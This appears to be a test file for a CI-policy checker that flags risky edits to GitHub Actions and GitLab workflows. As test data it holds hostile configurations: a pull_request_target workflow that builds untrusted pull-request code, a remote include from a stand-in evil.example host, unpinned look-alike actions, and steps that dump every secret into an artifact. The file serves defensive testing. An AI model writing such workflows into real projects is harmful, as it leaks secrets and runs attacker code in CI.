import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ready, verdictOf } from './harness';
import { aTempDir } from '../../builders/tempProject';
import { policyTable } from './table';
import { aWrite } from './harness';

const workflow = (file: string, content: string) => ({
  tool: 'Write',
  input: { file_path: `.github/workflows/${file}`, content },
});

const PWN_REQUEST = [
  'on: pull_request_target',
  'jobs:',
  '  build:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - uses: actions/checkout@v4',
  '        with:',
  '          ref: ${{ github.event.pull_request.head.sha }}',
  '      - run: npm install && npm test',
  '',
].join('\n');

policyTable('ci-runs-pull-request-code', [
  {
    note: "pull_request_target checking out and building the pull request's head",
    spec: workflow('pr.yml', PWN_REQUEST),
    expect: 'ask',
  },
  {
    note: 'workflow_run checking out the triggering branch and running a local action',
    spec: workflow(
      'after.yml',
      'on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_branch }}\n      - uses: ./.github/actions/report\n',
    ),
    expect: 'ask',
  },
  {
    note: 'near miss: pull_request_target that only labels (nothing of the pull request is checked out)',
    spec: workflow(
      'label.yml',
      'on: pull_request_target\njobs:\n  l:\n    steps:\n      - uses: actions/labeler@v5\n      - run: echo labelled\n',
    ),
    expect: null,
  },
  {
    note: 'near miss: pull_request (no secrets) building the head',
    spec: workflow('ci.yml', PWN_REQUEST.replace('pull_request_target', 'pull_request')),
    expect: null,
  },
  {
    note: 'near miss: the trigger only in a comment',
    spec: workflow(
      'ci2.yml',
      `# not pull_request_target: see docs\n${PWN_REQUEST.replace('pull_request_target', 'push')}`,
    ),
    expect: null,
  },
  {
    note: 'an edit switching a workflow Warden cannot read to pull_request_target',
    spec: {
      tool: 'Edit',
      input: {
        file_path: '.github/workflows/missing-ci.yml',
        old_string: 'on:\n  pull_request:',
        new_string: 'on:\n  pull_request_target:',
      },
    },
    expect: 'ask',
  },
  {
    note: 'near miss: an edit elsewhere in a pull_request_target workflow Warden cannot read',
    spec: {
      tool: 'Edit',
      input: {
        file_path: '.github/workflows/missing-labels.yml',
        old_string: 'on: pull_request_target\njobs:',
        new_string: 'on: pull_request_target\nconcurrency: labels\njobs:',
      },
    },
    expect: null,
  },
  {
    note: 'near miss: the same text in a file no CI reads',
    spec: { tool: 'Write', input: { file_path: 'docs/pwn-request.md', content: PWN_REQUEST } },
    expect: null,
  },
]);

const withStep = (step: string) =>
  [
    'on: push',
    'jobs:',
    '  test:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    `      - uses: ${step}`,
    '      - run: npm test',
    '',
  ].join('\n');

policyTable('ci-action-on-moving-ref', [
  {
    note: 'a GitLab include of a template from a URL',
    spec: aWrite(
      '.gitlab-ci.yml',
      'include:\n  - project: acme-corp/ci-templates\n    ref: v4.1.0\n    file: /ruby.yml\n  - remote: https://x.evil.example/ci/security-scan.yml\nstages: [test]\n',
    ),
    expect: 'ask',
  },
  {
    note: "near miss: a GitLab include of the organisation's template project at a ref, and one from its own network",
    spec: aWrite(
      '.gitlab-ci.yml',
      "include:\n  - project: acme-corp/ci-templates\n    ref: v4.1.0\n    file: /ruby.yml\n  - remote: 'https://gitlab.acme.internal/ci/base.yml'\nstages: [test]\n",
    ),
    expect: null,
  },
  {
    note: "another owner's action at a branch",
    spec: workflow('ci.yml', withStep('evil-actor/setup-cache@main')),
    expect: 'ask',
  },
  { note: 'an action with no ref at all', spec: workflow('ci.yml', withStep('some-org/tool')), expect: 'ask' },
  {
    note: 'an Edit that swaps a pinned checkout for a look-alike owner on a branch',
    spec: {
      tool: 'Edit',
      input: {
        file_path: '.github/workflows/release.yml',
        old_string: '      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11',
        new_string: '      - uses: acme-corp-ci/checkout@main',
      },
    },
    expect: 'ask',
  },
  { note: 'near miss: a release tag', spec: workflow('ci.yml', withStep('pnpm/action-setup@v4')), expect: null },
  {
    note: 'near miss: a full commit',
    spec: workflow('ci.yml', withStep('docker/build-push-action@4f58ea79222b3b9dc2c8bbdd6debcef730109a75')),
    expect: null,
  },
  {
    note: "near miss: GitHub's own action at a branch",
    spec: workflow('ci.yml', withStep('actions/checkout@main')),
    expect: null,
  },
  {
    note: 'near miss: an action from the repository itself',
    spec: workflow('ci.yml', withStep('./.github/actions/setup')),
    expect: null,
  },
  { note: 'near miss: a container image', spec: workflow('ci.yml', withStep('docker://alpine:3.20')), expect: null },
]);

test("switching a readable workflow to pull_request_target asks only when it checks out the pull request's code", async () => {
  await ready();
  const project = aTempDir('ci-trigger', after);
  mkdirSync(join(project, '.github', 'workflows'), { recursive: true });
  const file = join(project, '.github', 'workflows', 'ci.yml');
  const switchTrigger = () =>
    verdictOf('ci-runs-pull-request-code', {
      tool: 'Edit',
      input: { file_path: file, old_string: 'on: pull_request', new_string: 'on: pull_request_target' },
      cwd: project,
      root: project,
    })?.verdict;
  writeFileSync(file, PWN_REQUEST.replace('pull_request_target', 'pull_request'));
  assert.equal(switchTrigger(), 'ask', 'the workflow builds the head');
  writeFileSync(
    file,
    'on: pull_request\njobs:\n  l:\n    steps:\n      - uses: actions/checkout@v4\n      - run: make lint\n',
  );
  assert.equal(switchTrigger(), undefined, 'only the base is checked out');
});

policyTable('ci-expands-all-secrets', [
  {
    note: 'every secret written into an artifact',
    spec: workflow(
      'nightly.yml',
      "on:\n  schedule:\n    - cron: '0 3 * * *'\njobs:\n  s:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' > diagnostics.json\n      - uses: actions/upload-artifact@v4\n        with:\n          path: diagnostics.json\n",
    ),
    expect: 'ask',
  },
  {
    note: 'into an environment variable of a step',
    spec: workflow(
      'dump.yml',
      'on: push\njobs:\n  d:\n    steps:\n      - env:\n          ALL: ${{ tojson( secrets ) }}\n        run: ./report.sh\n',
    ),
    expect: 'ask',
  },
  {
    note: 'near miss: a step handed the one secret it needs',
    spec: workflow(
      'deploy.yml',
      'on: push\njobs:\n  d:\n    steps:\n      - env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n        run: npm publish\n',
    ),
    expect: null,
  },
  {
    note: 'near miss: the GitHub context as JSON for debugging',
    spec: workflow('debug.yml', "on: push\njobs:\n  d:\n    steps:\n      - run: echo '${{ toJSON(github.event) }}'\n"),
    expect: null,
  },
]);
